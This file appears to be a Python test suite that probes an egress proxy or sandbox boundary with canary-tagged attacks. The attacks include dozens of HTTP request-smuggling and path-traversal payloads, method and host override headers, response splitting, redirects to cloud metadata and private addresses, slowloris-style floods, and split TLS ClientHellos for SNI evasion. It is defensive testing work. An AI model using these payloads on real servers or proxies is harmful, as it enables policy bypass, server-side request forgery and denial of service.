"""What two parsers could read differently, said to an allowed host. The canary stands where only the wrong reading sees it."""

import base64
import re

from attack import *

allowed = f"allowed.{zone}"
api = f"api.{zone}"
HELLO_TYPE = 22


def exchange(text, host=allowed, secure=None, seconds=1.5, port=None):
    """What comes back for these bytes, over TLS and in the clear."""
    said = b""
    for tls in (True, False) if secure is None else (secure,):
        connection = dial_tls(host, port or 443) if tls else dial(host, port or 80)
        connection.sendall(text if isinstance(text, bytes) else text.encode("latin1"))
        said += b"|" + read_all(connection, seconds)
        connection.close()
    return said


def head(path="/", host=allowed, method="GET", more=""):
    return f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"


def answers(data):
    """The statuses, and no more than that of what was heard."""
    return [int(piece[:3]) for piece in data.split(b"HTTP/1.1 ")[1:]]


# ---- smuggling: an inner request that the policy would deny (another path of a host whose rule names /public) -------------

inner = "GET /secret/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n"
smuggled = {
    "Content-Length and Transfer-Encoding": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}",
    "Transfer-Encoding and Content-Length": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: {length}\r\n\r\n0\r\n\r\n{inner}",
    "two Content-Lengths": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\nContent-Length: {innerlength}\r\n\r\n{inner}",
    "one Content-Length that is a list": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0, {innerlength}\r\n\r\n{inner}",
    "a Content-Length with a plus": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: +{innerlength}\r\n\r\n{inner}",
    "a negative Content-Length": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: -1\r\n\r\n{inner}",
    "a hexadecimal Content-Length": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0x10\r\n\r\n{inner}",
    "a Content-Length past every integer": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 18446744073709551616\r\n\r\n{inner}",
    "an empty Content-Length": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: \r\n\r\n{inner}",
    "an obfuscated Transfer-Encoding": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: {innerlength}\r\nTransfer-Encoding: xchunked\r\n\r\n{inner}",
    "Transfer-Encoding with a tab": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 4\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n{inner}",
    "Transfer-Encoding with a vertical tab": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: \x0bchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{inner}",
    "chunked twice": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{inner}",
    "chunked, then identity": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{inner}",
    "a space before the colon": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{inner}",
    "a folded header": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nX: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{inner}",
    "a folded Transfer-Encoding": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{inner}",
    "bare line feeds": "GET /public/a HTTP/1.1\nHost: {host}\n\n{inner}",
    "one bare line feed in the head": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nX: y\nContent-Length: {innerlength}\r\n\r\n{inner}",
    "a bare carriage return": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nX: y\rContent-Length: {innerlength}\r\n\r\n{inner}",
    "a bare carriage return before the end": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nX: y\r\r\n\r\n{inner}",
    "NUL in a value": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nX: y\0z\r\n\r\n{inner}",
    "NUL in a name": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nX\0: y\r\n\r\n{inner}",
    "an empty header name": "GET /public/a HTTP/1.1\r\nHost: {host}\r\n: y\r\n\r\n{inner}",
    "a header without a colon": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nnothing\r\n\r\n{inner}",
    "chunk extensions with a line feed": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n2;a\nxx\r\n0\r\n\r\n{inner}",
    "a chunk size with a sign": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n+0\r\n\r\n{inner}",
    "a chunk size with 0x": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n{inner}",
    "a chunk size past every integer": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{inner}",
    "a chunk size with spaces": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n 0 \r\n\r\n{inner}",
    "a chunk that ends with a line feed": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nxx\n0\r\n\r\n{inner}",
    "a chunk longer than it says": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nxxyy\r\n0\r\n\r\n{inner}",
    "trailers that forge framing": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: {innerlength}\r\nX y\r\n\r\n{inner}",
    "a body on GET": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: {innerlength}\r\n\r\n{inner}",
    "a chunked body on GET": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}",
    "a body on HEAD": "HEAD /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: {innerlength}\r\n\r\n{inner}",
    "Transfer-Encoding in HTTP/1.0": "POST /public/a HTTP/1.0\r\nHost: {host}\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\nConnection: keep-alive\r\n\r\n0\r\n\r\n{inner}",
    "Content-Length named in Connection": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nConnection: Content-Length\r\nContent-Length: {innerlength}\r\n\r\n{inner}",
    "Transfer-Encoding named in Connection": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nConnection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}",
    "a line feed in the request line": "GET /public/a\nX HTTP/1.1\r\nHost: {host}\r\n\r\n{inner}",
    "an upgrade that nobody takes": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n{inner}",
    "an h2c upgrade": "GET /public/a HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n{inner}",
    "a second request behind the first": "GET /public/a HTTP/1.1\r\nHost: {host}\r\n\r\n{inner}",
    "a second request to another host": "GET /public/a HTTP/1.1\r\nHost: {host}\r\n\r\nGET /public/{canary} HTTP/1.1\r\nHost: elsewhere.test\r\n\r\n",
    "a hundred requests, the last one denied": None,
    "a body that ends early": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nContent-Length: 2\r\n\r\nxx{inner}",
    "Expect, and the body without waiting": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nExpect: 100-continue\r\nContent-Length: 2\r\n\r\nxx{inner}",
    "an unknown expectation": "POST /public/a HTTP/1.1\r\nHost: {host}\r\nExpect: 200-whatever\r\nContent-Length: {innerlength}\r\n\r\n{inner}",
    "CONNECT": "CONNECT elsewhere.test:443 HTTP/1.1\r\nHost: elsewhere.test:443\r\n\r\n{inner}",
    "CONNECT to the host itself": "CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n{inner}",
}


@each("smuggling by", smuggled)
def smuggling(canary, how):
    hidden = inner.format(canary=canary, host=api)
    form = smuggled[how] or "GET /public/a HTTP/1.1\r\nHost: {host}\r\n\r\n" * 100 + "{inner}"
    text = form.format(host=api, canary=canary, inner=hidden, innerlength=len(hidden), length=len(hidden) + 5, chunked=f"{len(hidden):x}\r\n{hidden}\r\n0\r\n\r\n")
    data = exchange(text, api)
    # A denial's remedy names the path that was asked for: that is the boundary's own word, and no answer of the origin.
    told = re.sub(rb'"remedy":"(?:[^"\\]|\\.)*"', b"", data)
    escaped_if(b"/secret" in told and banner in told, f"{data[-300:]!r}")
    check(answers(data) or data == b"||", f"no HTTP answer: {data[:200]!r}")
    return answers(data)


# ---- what is asked of a host whose rule names GET and /public -----------------------------------------------------------

paths = ["/secret/{}", "/public/../secret/{}", "/public/%2e%2e/secret/{}", "/public/%2E%2E/secret/{}", "/public/.%2e/secret/{}", "/public/..%2fsecret/{}", "/public%2f..%2fsecret/{}", "/public/..;/secret/{}", "/public;/../secret/{}", "/public/..\\secret/{}", "/public/..%5csecret/{}",
         "/public//../../secret/{}", "//public/../secret/{}", "/public/%252e%252e/secret/{}", "/public/%c0%ae%c0%ae/secret/{}", "/public/./../secret/{}", "/public/%00/../secret/{}", "/public/x#/../../secret/{}", "/public\\..\\secret\\{}", "/PUBLIC/{}", "/publicity/{}", "/public", "/./secret/{}",
         "/public/x%23/../../secret/{}", "/public/a/../../secret/{}", "/public/\u00e9/../../secret/{}", "/%70ublic/../secret/{}", "/secret/{}?/public/", "/public/..%00/secret/{}", "/public/%u002e%u002e/secret/{}", "/public/%ff/../../secret/{}", "secret/{}", "*", "?{}", "#{}", "/secret/{}#/public/x"]


@each("a path beside the allowed one:", paths, reason=("path_not_allowed", "malformed_request"))
def other_path(canary, path):
    data = exchange(head(path.replace("{}", canary) if "{}" in path else f"{path}?{canary}" if path == "/public" else path, api), api)
    no_banner(data)
    check(set(answers(data)) <= {400, 403}, f"{answers(data)}: {data[:300]!r}")
    return answers(data)


targets = {
    "absolute form of another host": "GET http://elsewhere.{zone}/public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "absolute form of another scheme": "GET ftp://{host}/public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "absolute form of a denied path": "GET http://{host}/secret/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute form with userinfo": "GET http://{host}@elsewhere.{zone}/public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "absolute form against Host": "GET http://{host}/public/{canary} HTTP/1.1\r\nHost: elsewhere.{zone}\r\n\r\n", "authority form": "GET {host}:443 HTTP/1.1\r\nHost: {host}\r\nX: {canary}\r\n\r\n",
    "no slash": "GET public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "two spaces": "GET  /public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "a tab": "GET\t/public/{canary}\tHTTP/1.1\r\nHost: {host}\r\n\r\n", "a space in the path": "GET /public/x /secret/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a lower-case method": "get /public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "a method with a NUL": "GET\0 /public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "HTTP/1.2": "GET /public/{canary} HTTP/1.2\r\nHost: {host}\r\n\r\n", "HTTP/2.0": "GET /public/{canary} HTTP/2.0\r\nHost: {host}\r\n\r\n", "HTTP/0.9": "GET /public/{canary}\r\n\r\n",
    "http/1.1 in lower case": "GET /public/{canary} http/1.1\r\nHost: {host}\r\n\r\n", "an extra word": "GET /public/{canary} HTTP/1.1 x\r\nHost: {host}\r\n\r\n", "a leading space": " GET /public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n", "bytes over 127": "GET /public/\xff{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "a byte order mark": "\xef\xbb\xbfGET /public/{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n",
}


@each("an odd request target:", targets, reason=("malformed_request", "name_mismatch", "path_not_allowed", "method_not_allowed", "protocol_not_allowed"))
def odd_target(canary, what):
    data = exchange(targets[what].format(host=api, zone=zone, canary=canary), api)
    no_banner(data)
    check(set(answers(data)) <= {400, 403, 405, 421, 505}, f"{answers(data)}: {data[:300]!r}")
    return answers(data)


@each("a method that no rule names", ["POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "OPTIONS", "GETX", "PRI", "M-SEARCH", "BREW"], reason=("method_not_allowed", "malformed_request", "protocol_not_allowed"))
def other_method(canary, method):
    data = exchange(head(f"/public/{canary}", api, method, "Content-Length: 0\r\n" if method in ("POST", "PUT", "PATCH") else ""), api)
    no_banner(data)
    check(set(answers(data)) <= {400, 403}, f"{answers(data)}: {data[:300]!r}")
    return answers(data)


@attack("an OPTIONS of the whole server", reason=("method_not_allowed", "path_not_allowed", "malformed_request"))
def options_star(canary):
    return no_banner(exchange(head("*", api, "OPTIONS", f"X: {canary}\r\n"), api))[:40]


overrides = ["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE", "X-Original-URL: /secret/{}", "X-Rewrite-URL: /secret/{}", "X-Original-Uri: /secret/{}", "X-Forwarded-Uri: /secret/{}", "X-Http-Path-Override: /secret/{}", "X-Forwarded-Path: /secret/{}",
             "X-Original-Method: DELETE", "_method: DELETE"]


@each("a header that makes another request of it:", overrides)
def override(canary, line):
    text = line.format(canary)
    data = exchange(head("/public/a", api, more=f"{text}\r\n"), api)
    heard = exchange(head("/public/heard", api), api)
    check(banner in heard, "the world is broken")
    return answers(data)


overriding_hosts = ["X-Forwarded-Host: elsewhere.test", "X-Host: elsewhere.test", "Forwarded: host=elsewhere.test", "X-Forwarded-Server: elsewhere.test", "X-HTTP-Host-Override: elsewhere.test"]


@each("more headers than a head may have:", ["a gigabyte in one header", "a gigabyte of headers", "a gigabyte of path", "a gigabyte of method"], seconds=30)
def gigabyte(canary, what):
    connection = dial_tls(allowed)
    connection.settimeout(10)
    started = {"a gigabyte in one header": head()[:-2] + "X: ", "a gigabyte of headers": head()[:-2], "a gigabyte of path": "GET /", "a gigabyte of method": ""}[what]
    piece = b"X: y\r\n" * 10000 if what == "a gigabyte of headers" else b"A" * 65536
    sent = 0
    try:
        connection.sendall(started.encode())
        while sent < 1 << 30:
            connection.sendall(piece)
            sent += len(piece)
    except (OSError, ssl.SSLError):
        pass
    check(sent < 64 << 20, f"{sent} bytes of head were taken")
    return f"cut off after {sent} bytes", answers(read_all(connection))


@attack("a hundred slow clients leave the others alone", seconds=25)
def slowloris(canary):
    opened = []
    for number in range(100):
        connection = dial_tls(allowed) if number % 2 else dial(allowed, 443 if number % 4 else 80)
        connection.send(b"G" if number % 2 else b"\x16")
        opened.append(connection)
    started = time.monotonic()
    data = exchange(head("/welcome"), secure=True)
    check(banner in data, f"nobody answers: {data!r}")
    return f"{(time.monotonic() - started) * 1000:.0f} ms"


# ---- responses -----------------------------------------------------------------------------------------------------------


@each("an answer that could be read in two ways:", ["two-lengths", "length-and-chunked", "unasked"])
def odd_answer(canary, what):
    connection = dial_tls(allowed)
    connection.sendall(head(f"/response/{what}").encode())
    first = read_all(connection, 1.0)
    try:
        connection.sendall(head("/welcome").encode())
        second = read_all(connection, 1.0)
    except OSError:
        second = b""
    escaped_if(b"poisoned" in second, f"the next answer was forged: {second!r}")
    third = exchange(head("/welcome"), secure=True)
    escaped_if(b"poisoned" in third, "another connection's answer was forged")
    check(banner in third, f"{third[:200]!r}")
    return answers(first + second)


@attack("line ends in what a refusal repeats")
def splitting(canary):
    data = exchange(head(f"/secret/%0d%0aSet-Cookie:%20{canary}", api), api) + exchange(f"GET /secret/x\rSet-Cookie:{canary} HTTP/1.1\r\nHost: {api}\r\n\r\n", api)
    escaped_if(b"\nset-cookie" in data.lower() or b"\rset-cookie" in data.lower(), f"{data!r}")
    return answers(no_banner(data))


@each("a redirect from an allowed host to", ["a denied name", "the host's loopback", "metadata", "a private address"])
def redirect(canary, where):
    target = {"a denied name": f"http://elsewhere.{zone}", "the host's loopback": "http://127.0.0.1:6379" if not six else "http://[::1]:6379", "metadata": "http://169.254.169.254" if not six else "http://[fd00:ec2::254]",
              "a private address": "http://10.1.2.3" if not six else "http://[fd12:3456::1]"}[where]
    import subprocess
    import urllib.parse
    url = f"http://{allowed}/go?to={urllib.parse.quote(target + '/' + ''.join(reversed(canary)), safe='')}"
    done = subprocess.run(["curl", "-sL", "-m", "5", url], capture_output=True, timeout=7, check=False)
    return no_banner(done.stdout)[:100]


# ---- TLS -----------------------------------------------------------------------------------------------------------------


@each("SNI that is not the name dialled:", ["another allowed name", "a denied name", "an address", "none"])
def other_sni(canary, which):
    sni = {"another allowed name": f"good.wild.{zone}", "a denied name": f"elsewhere.{zone}", "an address": "", "none": ""}[which]
    said = []
    for dialled in (f"elsewhere.{zone}", allowed):
        try:
            connection = dial_tls(dialled, sni=sni)
        except (OSError, ssl.SSLError) as error:
            said.append(type(error).__name__)
            continue
        connection.sendall(head(f"/{canary}" if dialled != allowed or sni else "/welcome", sni or dialled).encode())
        data = read_all(connection)
        if dialled == allowed and not sni:
            check(banner in data, f"no SNI means the name dialled: {data[:200]!r}")
        else:
            refused(data, "name_mismatch", "domain_not_allowed")
        said.append((status(data), reason(data)))
    return said


def client_hello(sni):
    name = sni.encode()
    extension = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    more = struct.pack("!HHHH", 10, 4, 2, 29) + struct.pack("!HHHH", 13, 4, 2, 0x0403) + struct.pack("!HHBBB", 43, 3, 2, 3, 4) + struct.pack("!HHHHH", 51, 38, 36, 29, 32) + bytes(range(32))
    extensions = extension + more
    body = b"\x03\x03" + bytes(32) + b"\x20" + bytes(32) + struct.pack("!HHH", 4, 0x1301, 0xC02B) + b"\x01\0" + struct.pack("!H", len(extensions)) + extensions
    return b"\x01" + struct.pack("!I", len(body))[1:] + body


def record(data):
    return b"\x16\x03\x01" + struct.pack("!H", len(data)) + data


@attack("a ClientHello byte by byte, a record for each")
def hello_in_pieces(canary):
    said = []
    for host in (allowed, f"elsewhere.{zone}"):
        connection = dial(host, 443)
        for byte in client_hello(host):
            connection.send(record(bytes([byte])))
        data = read_all(connection, 1.5)
        check(data[:1] in (b"\x16", b"\x15", b""), f"no TLS: {data[:80]!r}")
        said.append(data[:6].hex())
    return said


@attack("two names in one ClientHello, a record for each half")
def hello_split(canary):
    hello = client_hello(f"elsewhere.{zone}")
    connection = dial(allowed, 443)
    connection.sendall(record(hello[:80]) + record(hello[80:]))
    data = read_all(connection, 1.5)
    return data[:7].hex()


@each("a ClientHello that never ends:", ["slow", "fast", "long length", "empty records"], seconds=25)
def endless_hello(canary, how):
    connection = dial(allowed, 443)
    connection.settimeout(5)
    sent = 0
    started = time.monotonic()
    try:
        if how == "long length":
            connection.sendall(b"\x16\x03\x01\x40\x00\x01\xff\xff\xff")
        while sent < 32 << 20 and time.monotonic() - started < (2 if how == "slow" else 15):
            connection.sendall(record(b"\x01\x00\xff\xff") if how == "slow" else record(b"") * 1000 if how == "empty records" else record(b"A" * 16000) if sent else record(b"\x01\xff\xff\xff" + b"A" * 15000))
            sent += 16000
            if how == "slow":
                select.select([connection], [], [], 0.1)
    except OSError as error:
        return f"cut off after {sent} bytes: {error}"
    check(how == "slow" or sent < 1 << 20, f"{sent} bytes of ClientHello were taken")
    return f"still open after {sent} bytes"


not_http = {
    "an SSH banner": b"SSH-2.0-OpenSSH_9.6 {}\r\n", "the HTTP/2 preface": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0{}", "a Redis command": b"SET x {}\r\n", "SMTP": b"EHLO {}\r\nMAIL FROM:<a@b>\r\n", "an IRC greeting": b"NICK {}\r\n", "zeros": b"\0\0\0\0\0{}", "TLS again": b"\x16\x03\x01\x02\x00{}",
    "a SOCKS greeting": b"\x05\x01\x00{}", "a PostgreSQL start": b"\0\0\0\x08\x04\xd2\x16\x2f{}", "random bytes": bytes(range(128, 256)) + b"{}", "PROXY protocol": b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\nGET /{} HTTP/1.1\r\n\r\n", "PROXY protocol 2": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c{}",
}


@each("what is not TLS, on a TLS port:", not_http, reason=("protocol_not_allowed", "malformed_request"), host=f"allowed.{zone}")
def not_tls_at_all(canary, what):
    connection = dial(allowed, 443)
    connection.sendall(not_http[what].replace(b"{}", canary.encode()))
    return no_banner(read_all(connection, 2.0))[:80]


@each("what is not HTTP, inside TLS:", not_http, reason=("protocol_not_allowed", "malformed_request"), host=f"allowed.{zone}")
def not_http_in_tls(canary, what):
    connection = dial_tls(allowed)
    connection.sendall(not_http[what].replace(b"{}", canary.encode()))
    return no_banner(read_all(connection, 2.0))[:80]


@each("what is not HTTP, on port 80:", not_http, reason=("protocol_not_allowed", "malformed_request"), host=f"allowed.{zone}")
def not_http_in_clear(canary, what):
    connection = dial(allowed, 80)
    connection.sendall(not_http[what].replace(b"{}", canary.encode()))
    return no_banner(read_all(connection, 2.0))[:80]


@attack("HTTP in the clear to the TLS port")
def clear_on_tls(canary):
    connection = dial(allowed, 443)
    connection.sendall(head(f"/{canary}", f"{allowed}:443").encode())
    return refused(read_all(connection), "protocol_not_allowed")


@attack("TLS on the port for HTTP in the clear: judged by what is inside")
def tls_on_clear(canary):
    said = []
    for host, path in ((f"elsewhere.{zone}", f"/{canary}"), (api, f"/secret/{canary}")):
        try:
            connection = dial_tls(host, 80)
            connection.sendall(head(path, host).encode())
            said.append(status(no_banner(read_all(connection))))
        except (OSError, ssl.SSLError) as error:
            said.append(type(error).__name__)
    return said


@attack("HTTP/2 offered alone, and first")
def alpn(canary):
    said = []
    for offer in (["h2"], ["h2", "http/1.1"], ["h3"], ["x" * 200]):
        try:
            connection = dial_tls(allowed, alpn=offer)
            said.append(connection.selected_alpn_protocol())
            check(connection.selected_alpn_protocol() in (None, "http/1.1"), f"agreed to {connection.selected_alpn_protocol()}")
            if connection.selected_alpn_protocol() is None:
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + canary.encode())
                no_banner(read_all(connection, 1.0))
        except (OSError, ssl.SSLError) as error:
            said.append(type(error).__name__)
    return said


@each("an upstream whose certificate is", ["expired", "selfsigned", "wrongname"], reason="upstream_untrusted")
def untrusted(canary, label):
    data = exchange(head(f"/{canary}", f"{label}.{zone}"), f"{label}.{zone}", secure=True)
    return refused(data[1:], "upstream_untrusted")


@attack("an upstream that does not speak TLS", reason=("upstream_unreachable", "upstream_untrusted"))
def upstream_in_clear(canary):
    data = exchange(head(f"/{canary}", f"nottls.{zone}"), f"nottls.{zone}", secure=True)
    return refused(data[1:], "upstream_unreachable", "upstream_untrusted")


@attack("an early close, half a request, half a body: nothing is finished for the agent")
def half(canary):
    said = []
    for text in (f"GET /{canary}", f"GET /public/a HTTP/1.1\r\nHost: {api}\r\nX-Half: {canary}"):
        connection = dial_tls(api)
        connection.sendall(text.encode())
        connection.unwrap() if False else connection.shutdown(socket.SHUT_WR)
        said.append(no_banner(read_all(connection, 1.0))[:40])
    return said


@attack("credentials of a proxy and of the hop are not passed on")
def hop(canary):
    data = exchange(head("/welcome", more=f"Proxy-Authorization: Basic {base64.b64encode(canary.encode()).decode()}\r\nProxy-Connection: x-{canary}\r\nConnection: close, X-Hop\r\nX-Hop: {canary}\r\n"))
    check(banner in data, f"{data[:200]!r}")
    return answers(data)


if __name__ == "__main__":
    main()
